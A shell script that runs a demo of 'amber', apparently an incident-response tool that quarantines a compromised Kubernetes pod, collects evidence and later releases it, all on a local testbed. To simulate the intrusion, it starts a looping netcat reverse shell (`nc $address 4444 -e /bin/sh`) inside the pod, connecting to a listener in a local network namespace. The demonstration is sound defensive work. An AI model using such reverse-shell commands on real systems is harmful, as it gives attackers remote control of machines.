#!/bin/sh
# quarantine-demo.sh shows amber contain a pod in a real Kubernetes: make
# demo-quarantine. A shop has been broken into, and its pod has given somebody
# a shell. That somebody, the peer, is a network namespace on this machine.
set -eu

# shellcheck source=testdata/testbed/show.sh
. "$(dirname -- "$0")/show.sh"

# shop is a Deployment whose kubelet asks every 2 s and has no patience.
shop() {
	cat <<-YAML
	apiVersion: apps/v1
	kind: Deployment
	metadata: {name: shop}
	spec:
	  replicas: 1
	  selector: {matchLabels: {app: shop}}
	  template:
	    metadata: {labels: {app: shop}}
	    spec:
	      terminationGracePeriodSeconds: 1
	      containers:
	      - name: shop
	        image: $AMBER_TESTBED_IMAGE
	        imagePullPolicy: Never
	        command: [httpd, -f, -p, "8080", -h, /etc]
	        readinessProbe: {httpGet: {path: /hosts, port: 8080}, periodSeconds: 1}
	        livenessProbe: {httpGet: {path: /hostname, port: 8080}, periodSeconds: 2, failureThreshold: 2}
	---
	apiVersion: v1
	kind: Service
	metadata: {name: shop}
	spec:
	  selector: {app: shop}
	  ports: [{port: 80, targetPort: 8080}]
	YAML
}

# until_ok COMMAND… waits for it to succeed, a minute at most.
until_ok() {
	tries=0
	until "$@" >/dev/null 2>&1; do
		tries=$((tries + 1))
		[ "$tries" -lt 300 ] || die "waited in vain: $*"
		sleep 0.2
	done
}

# peer starts a host beside the node on which the intruder waits for a shell.
# It ends with this script, and its network with it. What it is sent is in
# demo/peer; what it types is written to descriptor 8.
peer() {
	address=198.18.$(($$ / 256 % 256)).$(($$ % 256))
	mkfifo "$demo/typed"
	setpriv --pdeathsig KILL unshare -n busybox nc -l -p 4444 <>"$demo/typed" >"$demo/peer" 9<&- &
	pid=$!
	exec 8>"$demo/typed"
	own=$(readlink /proc/self/ns/net)
	until_ok other_namespace "$pid" "$own"
	link=amberd$$
	ip link add "$link" type veth peer name eth0 netns "$pid"
	echo 1 >"/proc/sys/net/ipv4/conf/$link/forwarding"
	ip link set "$link" up
	nsenter -t "$pid" -n ip link set eth0 up
	nsenter -t "$pid" -n ip address add "$address/32" dev eth0
	nsenter -t "$pid" -n ip route add default via "$AMBER_TESTBED_GATEWAY" dev eth0 onlink
	table=$(sed -n 's/^\t"table": \([0-9]*\).*/\1/p' "$bed/kubernetes.json") # of what pods send
	ip route add "$address" dev "$link" scope link table "$table"
	ip route add "$address" dev "$link" scope link
}

other_namespace() { [ "$(readlink "/proc/$1/ns/net")" != "$2" ]; }

# types sends a line through the intruder's shell.
types() {
	printf '\n(the intruder types) %s\n' "$*"
	printf '%s\n' "$*" >&8
}

# heard N waits until the peer was sent N lines.
heard() { [ "$(wc -l <"$demo/peer")" -ge "$1" ]; }

# passed is the kubelet's count of liveness probes of a pod that passed.
passed() {
	kubectl get --raw "/api/v1/nodes/$AMBER_TESTBED_NODE/proxy/metrics/probes" |
		grep 'prober_probe_total{' | grep "pod=\"$1\"" | grep 'probe_type="Liveness",result="successful"' | sed 's/.*pod=/pod=/'
}

# serve_alone waits until the Service sends to one pod that is not this one.
serve_alone() {
	ready=$(serving)
	[ -n "$ready" ] && [ "$(printf '%s\n' "$ready" | wc -w)" -eq 1 ] && [ "$ready" != "$1" ]
}

serving() {
	kubectl get endpointslices -l kubernetes.io/service-name=shop \
		-o jsonpath='{range .items[*].endpoints[?(@.conditions.ready==true)]}{.addresses[0]} {.targetRef.name}{"\n"}{end}' |
		awk '{ print $2 }'
}

prepare demo-quarantine ip unshare nsenter setpriv

say "A Kubernetes of the demo's own, with a shop whose liveness probe kills what does not answer for 4 s."
testdata/testbed/fetch.sh containerd1 containerd2 etcd cni criu kubernetes
bring_up --kubernetes
peer
shop | kubectl apply -f - >/dev/null
kubectl rollout status deployment/shop --timeout=2m >/dev/null
pod=$(kubectl get pods -l app=shop -o jsonpath='{.items[0].metadata.name}')
show kubectl get pods -o wide
amber keys new >/dev/null

say "An intruder has broken in. The pod has given him a shell at $address, which he uses."
kubectl exec "$pod" -- sh -c "while :; do nc $address 4444 -e /bin/sh; sleep 1; done >/dev/null 2>&1 </dev/null &"
types 'hostname; i=0; while sleep 1; do i=$((i+1)); echo "beacon $i"; done &'
until_ok heard 4
show cat demo/peer

say "What runs here, and what makes it risky?"
show amber ps

say "What would be done? Nothing is touched by asking. (--no-cordon, because this cluster has no other node for the replacement.)"
show amber respond --plan --no-cordon "pod/default/$pod"

say "Do it. Code 3 says that something was not to be had, or was noted; the bundle says what."
before=$(wc -c <demo/peer)
exits 3 amber respond --yes --reason alert-17 --no-cordon "pod/default/$pod"

say "The intruder was sent $before bytes until then. He tries his shell, and waits for 20 s, five times what the probe allows."
counted=$(passed "$pod")
sent=$(wc -c <demo/peer)
types 'echo are you there'
show tail -n 2 demo/peer
show wc -c demo/peer
show sleep 20
show wc -c demo/peer
[ "$(wc -c <demo/peer)" -eq "$sent" ] || die "the intruder was sent more"

say "The pod is held, frozen, and was not restarted; another one has taken its place."
until_ok serve_alone "$pod"
show kubectl get pods -o wide
show ctr task ls

say "The kubelet takes it for alive: its count of successful liveness probes before the 20 s, and now."
printf '\n%s\n' "$counted"
passed "$pod"

say "Services send to the replacement alone, and it serves."
show kubectl get endpointslices -l kubernetes.io/service-name=shop
replacement=$(kubectl get pod "$(serving)" -o jsonpath='{.status.podIP}')
show busybox wget -q -O - "http://$replacement:8080/hostname"

say "Nobody deletes the evidence by mistake."
exits 1 kubectl delete pod "$pod"

say "Does it hold? Tried from inside, and looked at from outside. Any time, from any directory."
show amber isolate list
show amber isolate verify

say "The connection is in the evidence, as it was before the cut."
id=$(basename demo/case/evidence/*)
printf '\n$ amber evidence cat %s network/sockets.jsonl | grep %s\n' "$id" "$address"
amber evidence cat "$id" network/sockets.jsonl | grep -F "$address"

say "What would a release undo?"
show amber isolate release --plan --all

say "Give it back. The shell is the intruder's again, as it was: kill the pod now, if that is not what you want."
show amber isolate release --yes --all
sent=$(wc -l <demo/peer)
until_ok heard $((sent + 3))
show tail -n 4 demo/peer

say "The pod stays outside of its owner and its Services (--rejoin would put its labels back). Nothing else is left."
show kubectl get pods --show-labels
show kubectl get networkpolicies,validatingadmissionpolicies,validatingadmissionpolicybindings -A
show amber isolate list

say "Who did what?"
show amber evidence custody
